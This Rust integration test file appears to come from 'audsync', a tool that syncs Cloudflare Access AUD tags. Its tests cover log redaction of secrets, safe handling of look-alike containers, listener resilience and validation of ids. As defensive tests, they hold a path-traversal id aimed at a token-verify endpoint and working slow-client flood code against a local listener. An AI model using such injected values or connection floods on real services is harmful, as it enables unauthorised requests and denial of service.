        cmd.args([
            "sync",
            "--domain",
            HOST,
            "--container",
            &c,
            "--settle",
            "2s",
        ])
        .args(verbosity)
        .env("RUST_LOG", "trace");
        let r = run(&mut cmd);
        assert_eq!(r.code, 1, "{r:?}");
        assert!(both(&r).contains("config: DB_PASSWORD=[redacted]"), "{r:?}");
        assert!(
            both(&r).contains("short=abc"),
            "values under 8 characters stay: {r:?}"
        );
        assert!(!both(&r).contains(secret), "{r:?}");
        assert!(
            !both(&r).contains('\u{1b}') && !both(&r).contains('\u{7}'),
            "{r:?}"
        );
        assert!(both(&r).contains("evil"), "{r:?}");
        // Reset for the next round (the .env was written; the container is the old one).
        sb.write_env("CLOUDFLARE_AUD_TAG=old\n");
    }
}

// ---------------------------------------------------------------- only our own temporaries

#[test]
#[ignore = "needs the Docker engine: run scripts/test.sh"]
fn a_foreign_container_named_like_a_temporary_is_never_started_renamed_or_removed() {
    crate::require_docker!(not_podman: "not checked on Podman");
    use crate::support::docker::{Docker, docker, image, inspect};
    let cf = FakeCloudflare::start(vec![app(2, HOST, &aud(2))]);
    let sb = Sandbox::with_cloudflare(&cf);
    sb.write_env(&format!("CLOUDFLARE_AUD_TAG={}\n", aud(2)));
    let d = Docker::new();
    let serve = "trap 'exit 0' TERM; while true; do sleep 1; done";
    let c = d.run(
        "svc",
        &[
            "-e",
            &format!("CLOUDFLARE_AUD_TAG={}", aud(2)),
            &image(),
            "sh",
            "-c",
            serve,
        ],
    );
    // Someone else's containers, named like audsync's temporaries of `c`, one with `c`'s
    // compose labels copied; and one of a container `gone` that does not exist.
    let project = d.prefix.clone();
    let foreign_new = format!("{c}-audsync-new-abcdef-running");
    let foreign_old = format!("{c}-audsync-old-abcdef-running");
    let gone = d.name("gone");
    let gone_old = format!("{gone}-audsync-old-123456-running");
    for (name, labels) in [
        (
            &foreign_new,
            vec![
                format!("com.docker.compose.project={project}"),
                "com.docker.compose.service=svc".into(),
            ],
        ),
        (&foreign_old, vec![]),
        (&gone_old, vec![]),
    ] {
        let mut args = vec!["create".to_string(), "--name".into(), name.clone()];
        for l in labels {
            args.extend(["--label".into(), l]);
        }
        args.extend([image(), "sh".into(), "-c".into(), serve.into()]);
        docker(&args.iter().map(String::as_str).collect::<Vec<_>>());
    }
    let ids: Vec<String> = [&foreign_new, &foreign_old, &gone_old]
        .iter()
        .map(|n| crate::support::docker::id_of(n))
        .collect();
    let untouched = |why: &str| {
        for (n, id) in [&foreign_new, &foreign_old, &gone_old].iter().zip(&ids) {
            let v = inspect(n);
            assert_eq!(
                v["Id"].as_str(),
                Some(id.as_str()),
                "{why}: {n} still there under its name"
            );
            assert_eq!(v["State"]["Running"], false, "{why}: {n} not started");
        }
    };
    let mut cmd = sb.cmd();
    cmd.args([
        "sync",
        "--domain",
        HOST,
        "--container",
        &c,
        "--restart",
        "recreate",
        "--output",
        "json",
    ]);
    let r = run(&mut cmd);
    assert_eq!(r.code, 0, "{r:?}");
    untouched("sync of c");
    assert_eq!(inspect(&c)["State"]["Running"], true);
    let mut cmd = sb.cmd();
    cmd.args([
        "sync",
        "--domain",
        HOST,
        "--container",
        &gone,
        "--restart",
        "recreate",
    ]);
    let r = run(&mut cmd);
    assert_ne!(r.code, 0, "{r:?}");
    untouched("sync of a missing container");
    let mut cmd = sb.cmd();
    cmd.args(["sync", "--domain", HOST, "--container", &gone, "--dry-run"]);
    let _ = run(&mut cmd);
    untouched("dry run");
}

// ---------------------------------------------------------------- the listener cannot stop the agent

/// `audsync watch` started through `sh -c "ulimit …; exec audsync watch …"`, stderr to a file.
struct Watch {
    child: std::process::Child,
}

impl Watch {
    fn start(sb: &Sandbox, ulimit: &str, args: &[&str]) -> Watch {
        let bin = assert_cmd::cargo::cargo_bin("audsync");
        let err = std::fs::File::create(sb.path("watch.log")).unwrap();
        let child = std::process::Command::new("sh")
            .arg("-c")
            .arg(format!("ulimit {ulimit} && exec \"$0\" watch \"$@\""))
            .arg(bin)
            .args(args)
            .env_clear()
            .env("PATH", std::env::var("PATH").unwrap_or_default())
            .envs(sb.vars.iter().map(|(k, v)| (k, v)))
            .current_dir(sb.dir())
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(err)
            .spawn()
            .unwrap();
        Watch { child }
    }
}

impl Drop for Watch {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn wait_for(limit: std::time::Duration, mut cond: impl FnMut() -> bool) -> bool {
    let start = std::time::Instant::now();
    while start.elapsed() < limit {
        if cond() {
            return true;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    cond()
}

fn healthz(addr: &str) -> Option<String> {
    use std::io::{Read, Write};
    let mut s = std::net::TcpStream::connect(addr).ok()?;
    s.set_read_timeout(Some(std::time::Duration::from_secs(2)))
        .ok()?;
    s.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        .ok()?;
    let mut out = String::new();
    s.read_to_string(&mut out).ok()?;
    Some(out)
}

/// `GET /healthz` with a generous read timeout: the status line, or None.
fn probe(addr: &str, limit: std::time::Duration) -> Option<String> {
    use std::io::{Read, Write};
    let mut s = std::net::TcpStream::connect(addr).ok()?;
    s.set_read_timeout(Some(limit)).ok()?;
    s.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        .ok()?;
    let mut out = String::new();
    s.read_to_string(&mut out).ok()?;
    out.lines().next().map(str::to_string)
}

#[test]
fn three_hundred_slow_clients_cannot_starve_healthz() {
    use std::io::Write;
    let cf = FakeCloudflare::start(vec![app(2, HOST, &aud(2))]);
    let sb = Sandbox::with_cloudflare(&cf);
    sb.write_env("CLOUDFLARE_AUD_TAG=old\n");
    let port = crate::support::docker::free_port();
    let addr = format!("127.0.0.1:{port}");
    let args = [
        "--domain",
        HOST,
        "--restart",
        "none",
        "--interval",
        "1h",
        "--listen",
        &addr,
    ];
    // A soft limit of 128: 32 connection slots.
    let _w = Watch::start(&sb, "-n 128", &args);
    let log = || std::fs::read_to_string(sb.path("watch.log")).unwrap_or_default();
    assert!(
        wait_for(std::time::Duration::from_secs(10), || healthz(&addr)
            .is_some()),
        "{}",
        log()
    );
    // 150 send nothing, 150 send their headers a byte at a time (never finishing).
    let mut slow = Vec::new();
    for i in 0..300 {
        let mut s = std::net::TcpStream::connect(&addr).unwrap();
        if i % 2 == 1 {
            let _ = s.write_all(b"G");
        }
        slow.push(s);
    }
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let dribble = {
        let stop = stop.clone();
        std::thread::spawn(move || {
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                for s in slow.iter_mut().skip(1).step_by(2) {
                    let _ = s.write_all(b"E");
                }
                std::thread::sleep(std::time::Duration::from_millis(500));
            }
            slow
        })
    };
    std::thread::sleep(std::time::Duration::from_millis(300));
    for n in 0..3 {
        let answer = probe(&addr, std::time::Duration::from_secs(10));
        assert!(
            answer
                .as_deref()
                .is_some_and(|l| l.starts_with("HTTP/1.1 200")),
            "probe {n} under 300 slow clients: {answer:?}\n{}",
            log()
        );
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    drop(dribble.join());
}

#[test]
fn three_hundred_slow_clients_with_a_low_open_files_limit_leave_the_passes_running() {
    use std::io::Write;
    let cf = FakeCloudflare::start(vec![app(2, HOST, &aud(2))]);
    let sb = Sandbox::with_cloudflare(&cf);
    sb.write_env("CLOUDFLARE_AUD_TAG=old\n");
    let port = crate::support::docker::free_port();
    let addr = format!("127.0.0.1:{port}");
    let holds = |v: &str| {
        std::fs::read_to_string(sb.env_path()).unwrap_or_default()
            == format!("CLOUDFLARE_AUD_TAG={v}\n")
    };
    let args = [
        "--domain",
        HOST,
        "--restart",
        "none",
        "--interval",
        "200ms",
        "--jitter",
        "0",
        "--listen",
        &addr,
    ];
    // Soft and hard limit 128: nothing to raise, so only the connection cap protects it.
    let w = Watch::start(&sb, "-n 128", &args);
    let log = || std::fs::read_to_string(sb.path("watch.log")).unwrap_or_default();
    assert!(
        wait_for(std::time::Duration::from_secs(30), || holds(&aud(2))),
        "{}",
        log()
    );
    assert!(
        wait_for(std::time::Duration::from_secs(10), || healthz(&addr)
            .is_some()),
        "{}",
        log()
    );
    let mut slow = Vec::new();
    for _ in 0..300 {
        let mut s = std::net::TcpStream::connect(&addr).unwrap();
        // Headers that never end.
        let _ = s.write_all(b"GET /healthz HTTP/1.1\r\nX-Slow: ");
        slow.push(s);
    }
    cf.with(|s| s.apps[0]["aud"] = serde_json::json!(aud(3)));
    assert!(
        wait_for(std::time::Duration::from_secs(30), || holds(&aud(3))),
        "the passes stopped under the flood: {}",
        log()
    );
    // Once they go, the listener serves again.
    drop(slow);
    assert!(
        wait_for(std::time::Duration::from_secs(30), || healthz(&addr)
            .is_some_and(
                |r| r.starts_with("HTTP/1.1 200") || r.starts_with("HTTP/1.1 503")
            )),
        "{}",
        log()
    );
    drop(w);

    // A low soft limit under a higher hard one is raised at start.
    let port = crate::support::docker::free_port();
    let addr = format!("127.0.0.1:{port}");
    let args = [
        "--domain",
        HOST,
        "--restart",
        "none",
        "--interval",
        "200ms",
        "--jitter",
        "0",
        "--listen",
        &addr,
    ];
    let w = Watch::start(&sb, "-Sn 100 && ulimit -Hn 4096", &args);
    assert!(
        wait_for(std::time::Duration::from_secs(10), || healthz(&addr)
            .is_some()),
        "{}",
        log()
    );
    let limits = std::fs::read_to_string(format!("/proc/{}/limits", w.child.id())).unwrap();
    let line = limits
        .lines()
        .find(|l| l.starts_with("Max open files"))
        .unwrap()
        .to_string();
    let nums: Vec<&str> = line
        .split_whitespace()
        .filter(|t| t.parse::<u64>().is_ok())
        .collect();
    assert_eq!(nums, vec!["4096", "4096"], "{line}");
}

#[test]
fn the_compose_snippet_keeps_the_listener_off_the_hosts_interfaces() {
    let text = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts/compose.watch.yml"),
    )
    .unwrap();
    let lines: Vec<&str> = text
        .lines()
        .map(str::trim)
        .filter(|l| !l.starts_with('#'))
        .collect();
    assert!(
        !lines
            .iter()
            .any(|l| l.contains("network_mode") && l.contains("host"))
    );
    // Every published port is on the host's loopback.
    let ports: Vec<&&str> = lines
        .iter()
        .skip_while(|l| **l != "ports:")
        .skip(1)
        .take_while(|l| l.starts_with('-'))
        .collect();
    assert!(!ports.is_empty());
    for p in ports {
        assert!(p.contains("\"127.0.0.1:") || p.contains("\"[::1]:"), "{p}");
    }
    // The container is on a named network of its own, not the default one it would share.
    assert!(lines.contains(&"networks:"), "{text}");
    assert!(lines.contains(&"- audsync"), "{text}");
}

#[test]
fn the_infisical_client_id_is_a_credential_in_output_and_logs() {
    use crate::support::infisical::FakeInfisical;
    let cf = FakeCloudflare::start(vec![app(2, HOST, &aud(2))]);
    let inf = FakeInfisical::start();
    let mut sb = Sandbox::with_cloudflare(&cf);
    sb.var("INFISICAL_HOST", &inf.url())
        .var("INFISICAL_PROJECT_ID", PROJECT)
        .var("INFISICAL_CLIENT_ID", CLIENT_ID)
        .var("INFISICAL_CLIENT_SECRET", "wrong-secret-value");
    sb.write_env("CLOUDFLARE_AUD_TAG=old\n");
    for _ in 0..2 {
        // The refusal, then the hold-off message.
        let mut c = sb.cmd();
        c.args([
            "sync",
            "-vvv",
            "--domain",
            HOST,
            "--sink",
            "infisical",
            "--restart",
            "none",
        ])
        .env("RUST_LOG", "trace");
        let r = run(&mut c);
        assert_ne!(r.code, 0, "{r:?}");
        assert!(r.stderr.contains("INFISICAL_CLIENT_ID"), "{r:?}");
        assert!(!both(&r).contains(CLIENT_ID), "{r:?}");
        let mut c = sb.cmd();
        c.args([
            "sync",
            "--domain",
            HOST,
            "--sink",
            "infisical",
            "--restart",
            "none",
            "--output",
            "json",
        ]);
        let r = run(&mut c);
        assert!(!both(&r).contains(CLIENT_ID), "{r:?}");
    }
}

// ---------------------------------------------------------------- values from the API are data

mod ids_are_data {
    use serde_json::json;

    use crate::support::cloudflare::{self, FakeCloudflare, app, aud, uuid};
    use crate::support::{Sandbox, run};

    use super::{HOST, both};

    const HOSTILE: &str = "../../../../user/tokens/verify?x=";

    fn sync(sb: &Sandbox) -> crate::support::Run {
        let mut c = sb.cmd();
        c.args(["sync", "-vvv", "--domain", HOST, "--restart", "none"]);
        run(&mut c)
    }

    /// Every request stayed under the account's applications (or the account list).
    fn only_app_paths(cf: &FakeCloudflare) {
        assert!(
            cf.with(|s| s.verifies.is_empty()),
            "an id was requested as a path: {:?}",
            cf.with(|s| s.verifies.clone())
        );
        for r in cf.requests() {
            assert!(
                r.path == "/accounts" || r.path.starts_with("/accounts/"),
                "{} {}",
                r.method,
                r.path
            );
            assert!(!r.path.contains("/user/"), "{} {}", r.method, r.path);
        }
    }

    #[test]
    fn an_application_id_that_is_not_a_uuid_is_refused_where_it_is_parsed() {
        let mut hostile = app(1, HOST, &aud(1));
        hostile["id"] = json!(HOSTILE);
        let cf = FakeCloudflare::start(vec![hostile]);
        let sb = Sandbox::with_cloudflare(&cf);
        sb.write_env("CLOUDFLARE_AUD_TAG=old\n");
        for _ in 0..2 {
            let r = sync(&sb);
            assert_eq!(r.code, 1, "{r:?}");
            assert!(both(&r).contains("not a UUID"), "{r:?}");
            assert_eq!(sb.read_env(), "CLOUDFLARE_AUD_TAG=old\n", "{r:?}");
        }
        only_app_paths(&cf);
        // Nothing hostile was cached.
        let state = std::fs::read_to_string(sb.path(".env.audsync-state.json")).unwrap_or_default();
        assert!(!state.contains("tokens"), "{state}");
    }

    #[test]
    fn a_cached_id_that_is_not_a_uuid_is_never_requested() {
        let cf = FakeCloudflare::start(vec![app(2, HOST, &aud(2))]);
        let sb = Sandbox::with_cloudflare(&cf);
        sb.write_env("CLOUDFLARE_AUD_TAG=old\n");
        let state = json!({"apps": {HOST: {"host": HOST, "account_id": cloudflare::ACCOUNT, "app_id": HOSTILE}}});
        std::fs::write(sb.path(".env.audsync-state.json"), state.to_string()).unwrap();
        let r = sync(&sb);
        assert_eq!(r.code, 0, "{r:?}");
        assert_eq!(sb.read_env(), format!("CLOUDFLARE_AUD_TAG={}\n", aud(2)));
        only_app_paths(&cf);
        let state = std::fs::read_to_string(sb.path(".env.audsync-state.json")).unwrap();
        assert!(
            state.contains(&uuid(2)) && !state.contains("tokens"),
            "{state}"
        );
    }

    /// An account id from `GET /accounts` that is not 32 hex digits is refused too (and were it
    /// used, it would go into the path percent-encoded: src/cloudflare/mod.rs tests that).
    #[test]
    fn an_account_id_that_is_not_one_is_refused() {
        let cf = FakeCloudflare::start(vec![app(3, HOST, &aud(3))]);
        cf.with(|s| s.accounts = vec![json!({"id": HOSTILE, "name": "Evil", "type": "standard"})]);
        let mut sb = Sandbox::with_cloudflare(&cf);
        sb.unset("CLOUDFLARE_ACCOUNT_ID");
        sb.write_env("CLOUDFLARE_AUD_TAG=old\n");
        let r = sync(&sb);
        assert_eq!(r.code, 1, "{r:?}");
        assert!(both(&r).contains("not 32 hex digits"), "{r:?}");
        assert_eq!(sb.read_env(), "CLOUDFLARE_AUD_TAG=old\n");
        only_app_paths(&cf);
        // A cached account id that is not one is not used either.
        let state =
            json!({"apps": {HOST: {"host": HOST, "account_id": HOSTILE, "app_id": uuid(3)}}});
        std::fs::write(sb.path(".env.audsync-state.json"), state.to_string()).unwrap();
        cf.with(|s| {
            s.accounts =
                vec![json!({"id": cloudflare::ACCOUNT, "name": "Home Lab", "type": "standard"})]
        });
        let r = sync(&sb);
        assert_eq!(r.code, 0, "{r:?}");
        assert_eq!(sb.read_env(), format!("CLOUDFLARE_AUD_TAG={}\n", aud(3)));
        only_app_paths(&cf);
    }
}
